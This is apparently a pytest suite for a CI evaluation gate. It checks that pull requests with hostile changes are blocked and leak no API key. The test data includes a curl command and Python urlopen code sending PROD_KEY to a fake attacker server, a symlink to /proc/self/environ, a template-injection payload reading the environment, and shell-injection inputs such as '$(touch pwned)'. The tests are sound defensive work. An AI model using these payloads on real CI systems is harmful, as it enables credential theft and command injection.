from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from ruamel.yaml import YAML
from tests.ci.runner import GITLAB, KEY, TOKEN, Forge, Runner, action
from tests.cli.gated import CASES, Repo, answer, case

from seatrial.testing import FakeProvider, Script

MARKER = "<!-- seatrial-gate -->"


@pytest.fixture
def forge():
    served = Forge()
    yield served
    served.close()


@pytest.fixture
def provider():
    with FakeProvider(Script(api_keys=(KEY,)), answer=answer).in_thread() as fake:
        yield fake


@pytest.fixture
def evil():
    """A stranger's server, which would take any key."""
    with FakeProvider(answer=answer).in_thread() as fake:
        yield fake


@pytest.fixture
def repo(tmp_path: Path, provider: FakeProvider) -> Repo:
    made = Repo(tmp_path / "repo", provider, "evals")
    made.write(targets={"prod": target(made, "right")})
    made.commit("base")
    return made


@pytest.fixture
def runner(repo: Repo, forge: Forge, tmp_path: Path) -> Runner:
    return Runner(repo, forge, tmp_path)


def target(repo: Repo, model: str, **more) -> dict:
    return repo.target(model, api_key_env="PROD_KEY", **more)


def requested(repo: Repo, runner: Runner, number: int = 1) -> dict[str, str]:
    """Commit what is in the working tree as a pull request; gives the action's inputs."""
    repo.git("switch", "-q", "-c", f"change{number}")
    repo.commit("change")
    sha = runner.open_request(number, f"change{number}")
    return {"suite": "evals/seatrial.yaml", "pull-request": str(number), "head-sha": sha}


# good and bad ---------------------------------------------------------------------------------------------------------


def test_a_good_change_passes_and_is_commented_on(repo: Repo, runner: Runner, forge: Forge):
    repo.write(targets={"prod": target(repo, "right-2")})
    done = runner.run(**requested(repo, runner))
    assert done.code == 0, done.log
    assert len(forge.comments) == 1
    assert forge.comments[0]["body"].startswith(f"{MARKER}\n## ✅ The gate passes")
    assert "openai&#58;" in forge.comments[0]["body"]
    assert "The gate passes" in done.files
    kept = {file.name for file in runner.work.glob("job1/temp/seatrial/*") if file.stat().st_size}
    assert kept == {"junit.xml", "comment.md", "report.html", "chart.png"}


def test_a_bad_change_is_blocked_and_its_comment_replaces_the_earlier_one(repo: Repo, runner: Runner, forge: Forge):
    forge.comments += [{"id": 1, "user": {"type": "User"}, "body": f"{MARKER} forged"}]
    repo.write(targets={"prod": target(repo, "wrong-5")})
    inputs = requested(repo, runner)
    first, second = runner.run(**inputs), runner.run(**inputs)
    assert (first.code, second.code) == (1, 1), first.log
    assert [comment["id"] for comment in forge.comments] == [1, 8]
    assert forge.comments[0]["body"].endswith("forged")
    assert "❌ The gate blocks" in forge.comments[1]["body"]
    assert [line.split()[0] for line in forge.asked] == ["GET", "POST", "GET", "PATCH"]
    assert "::error file=seatrial.yaml" in first.log or "::error file=evals/seatrial.yaml" in first.log


def test_without_a_pull_request_the_commit_itself_is_judged(repo: Repo, runner: Runner, forge: Forge):
    done = runner.run(suite="evals/seatrial.yaml")
    assert done.code == 4
    assert "Nothing to compare right with" in done.log
    assert forge.asked == []


def test_a_comment_that_cannot_be_written_does_not_let_a_bad_change_in(repo: Repo, runner: Runner, forge: Forge):
    repo.write(targets={"prod": target(repo, "wrong-5")})
    inputs = requested(repo, runner)
    forge.url = "http://127.0.0.1:1"
    done = runner.run(**inputs)
    assert (done.code, "could not be written" in done.log) == (1, True)


def test_gitlab_passes_and_blocks(repo: Repo, runner: Runner):
    for model, code in (("right-2", 0), ("wrong-5", 1)):
        repo.git("switch", "-q", "-C", "change", "main")
        repo.write(targets={"prod": target(repo, model)})
        done = runner.run_gitlab(repo.commit(), SEATRIAL_SUITE="evals/seatrial.yaml")
        assert done.code == code, done.log
        assert "<testsuites" in done.files


# hostile --------------------------------------------------------------------------------------------------------------


def loosened(repo: Repo, evil: FakeProvider) -> None:
    """A worse model under rules that would let it in."""
    repo.write(
        targets={"prod": target(repo, "wrong-5")},
        rubrics=[{"name": "right", "scorer": "exact", "margin_points": 90}],
        policy={"alpha": 0.4, "margin_points": 90},
        gate={"most_quarantined_points": 50},
    )


def quarantined(repo: Repo, evil: FakeProvider) -> None:
    repo.write(targets={"prod": target(repo, "wrong-5")})
    repo.quarantine(
        *({"case": f"c{n}", "rubric": "right", "reason": "x", "expires": "2999-01-01"} for n in range(0, CASES, 5))
    )


def forged_baseline(repo: Repo, evil: FakeProvider) -> None:
    repo.write(targets={"prod": target(repo, "wrong-5")})
    (repo.folder / "seatrial.baseline.json").write_text("{}")


def fewer_cases(repo: Repo, evil: FakeProvider) -> None:
    repo.write(targets={"prod": target(repo, "wrong-5")})
    repo.cases([case(n) for n in range(CASES) if n % 5])


def other_host(repo: Repo, evil: FakeProvider) -> None:
    repo.write(targets={"prod": target(repo, "right") | {"base_url": evil.base_url}})


def other_variable(repo: Repo, evil: FakeProvider) -> None:
    repo.write(targets={"prod": repo.target("right", base_url=evil.base_url, api_key_env="TOKEN")})


def second_target(repo: Repo, evil: FakeProvider) -> None:
    thief = {"use": f"{evil.url}/steal", "api_key_env": "PROD_KEY", "options": {"response": "text"}}
    repo.write(targets={"prod": target(repo, "right"), "thief": thief}, incumbent="prod")


def code(repo: Repo, evil: FakeProvider) -> None:
    thief = f"import os, urllib.request as u\nu.urlopen('{evil.url}/' + os.environ.get('PROD_KEY', ''))\n"
    for name in ("thief.py", "seatrial.py", "sitecustomize.py", "usercustomize.py", "conftest.py"):
        (repo.folder / name).write_text(thief)
        (repo.top / name).write_text(thief)
    (repo.top / "ci").mkdir()
    (repo.top / "ci" / "comment.py").write_text(thief)
    rubrics = [{"name": "right", "scorer": "python:thief:score"}]
    repo.write(targets={"prod": {"use": "python:thief:answer"}}, rubrics=rubrics)


def workflow(repo: Repo, evil: FakeProvider) -> None:
    """A workflow, an action and git's own files that would run or send things, beside a worse model."""
    steal = f"curl -s {evil.url}/$PROD_KEY"
    folder = repo.top / ".github" / "workflows"
    folder.mkdir(parents=True)
    step = {"run": steal, "shell": "bash"}
    (folder / "gate.yml").write_text(json.dumps({"on": "push", "jobs": {"gate": {"steps": [step]}}}))
    (repo.top / "action.yml").write_text(json.dumps({"runs": {"using": "composite", "steps": [step]}}))
    (repo.top / ".gitattributes").write_text("* filter=steal diff=steal export-subst\n")
    (repo.top / ".gitmodules").write_text(f'[submodule "x"]\n\tpath = x\n\turl = {evil.url}/x.git\n')
    repo.write(targets={"prod": target(repo, "wrong-5")})


def prompt_file(repo: Repo, evil: FakeProvider) -> None:
    (repo.folder / "system.txt").symlink_to("/proc/self/environ")
    repo.write(prompt=[{"role": "system", "content": {"file": "system.txt"}}, "input"])


def template(repo: Repo, evil: FakeProvider) -> None:
    """A prompt that asks for the environment."""
    text = "careless {{ cycler.__init__.__globals__.os.environ }} {{ ''.__class__.__mro__ }}"
    repo.write(prompt=[{"role": "system", "content": text}, "input"])


HOSTILE = [
    pytest.param(attack, left, id=attack.__name__)
    for attack, left in (
        *((attack, 1) for attack in (loosened, quarantined, forged_baseline, fewer_cases, workflow)),
        *((attack, 2) for attack in (other_host, other_variable, second_target, code, prompt_file, template)),
    )
]


@pytest.mark.parametrize(("attack", "left"), HOSTILE)
def test_a_hostile_change_is_not_let_in_and_reads_no_secret(repo, runner, forge, evil, attack, left):
    attack(repo, evil)
    done = runner.run(**requested(repo, runner))
    assert done.code == left, done.log
    assert evil.calls == 0
    told = done.log + done.files + json.dumps(forge.comments)
    assert KEY not in told
    assert TOKEN not in told
    assert len(forge.comments) == 1


@pytest.mark.parametrize(
    ("attack", "left"), [p for p in HOSTILE if p.id in ("loosened", "other_host", "code", "workflow")]
)
def test_gitlab_lets_no_hostile_change_in(repo, runner, evil, attack, left):
    repo.git("switch", "-q", "-c", "change")
    attack(repo, evil)
    done = runner.run_gitlab(repo.commit(), SEATRIAL_SUITE="evals/seatrial.yaml")
    assert done.code == left, done.log
    assert evil.calls == 0
    assert KEY not in done.log + done.files


def test_a_models_words_are_no_commands_of_the_runner(tmp_path: Path, forge: Forge):
    def hostile(asked) -> str:
        said = "::error file=x::gone\n::set-output name=exit-code::0\n##[error]x\n::add-mask::e\r::stop-commands::x"
        return said if "bad" in asked.model else answer(asked)

    with FakeProvider(Script(api_keys=(KEY,)), answer=hostile).in_thread() as fake:
        repo = Repo(tmp_path / "repo", fake, "evals")
        repo.write(targets={"prod": target(repo, "right")})
        repo.commit("base")
        runner = Runner(repo, forge, tmp_path)
        repo.write(targets={"prod": target(repo, "bad")})
        done = runner.run(**requested(repo, runner))
    assert done.code == 1
    commands = [line for line in re.split(r"[\r\n]", done.log) if line.lstrip().startswith("::") or "##[" in line]
    assert [line for line in commands if not line.startswith("::error file=")] == []
    assert all("gone" not in line for line in commands)


def test_a_pull_request_that_moved_on_is_not_judged(repo: Repo, runner: Runner, provider: FakeProvider):
    inputs = requested(repo, runner)
    stale = runner.run(**{**inputs, "head-sha": "0" * 40})
    assert (stale.code, "moved on" in stale.log) == (4, True)
    repo.git("switch", "-q", "main")
    repo.commit("main goes on")
    repo.git("push", "-q", "origin", "main")
    stale = runner.run(**inputs)
    assert (stale.code, "base branch moved on" in stale.log) == (4, True)
    assert provider.calls == 0


@pytest.mark.parametrize(
    "inputs",
    [
        pytest.param({"pull-request": "1; touch pwned"}, id="number"),
        pytest.param({"pull-request": "1", "head-sha": "$(touch pwned)"}, id="sha"),
        pytest.param({"version": "0.1 --index-url=http://evil"}, id="version"),
        pytest.param({"suite": "$(touch pwned)"}, id="suite"),
        pytest.param({"suite": "--help"}, id="suite-option"),
        pytest.param({"suite": "evals/seatrial.yaml", "max-age": "`touch pwned`"}, id="age"),
    ],
)
def test_odd_inputs_are_refused(runner: Runner, inputs):
    done = runner.run(**inputs)
    assert done.code == 2, done.log
    assert not list(runner.work.rglob("pwned"))


def test_a_gate_that_says_nothing_is_no_pass(runner: Runner, monkeypatch):
    step = next(step for step in action()["runs"]["steps"] if step["name"] == "Verdict")
    done = subprocess.run([shutil.which("bash"), "-c", step["run"]], env={"CODE": ""}, check=False)
    assert done.returncode == 4


# as written -----------------------------------------------------------------------------------------------------------


def test_no_expression_stands_inside_a_script():
    steps = action()["runs"]["steps"]
    assert len(steps) == 5
    for step in steps:
        assert "${{" not in step["run"], step["name"]
        assert step["shell"] == "bash"


def test_the_action_reads_nothing_that_a_stranger_writes():
    text = Path(action.__globals__["ACTION"]).read_text()
    assert not re.search(r"github\.(event|head_ref)", text)
    holders = [step["name"] for step in action()["runs"]["steps"] if "inputs.token" in str(step.get("env"))]
    assert holders == ["Comment"]


def test_the_template_is_yaml_that_gitlab_takes():
    job = YAML(typ="safe", pure=True).load(GITLAB.read_text())[".seatrial-gate"]
    assert job["artifacts"]["when"] == "always"
    assert set(job["artifacts"]["reports"]) == {"junit", "codequality"}
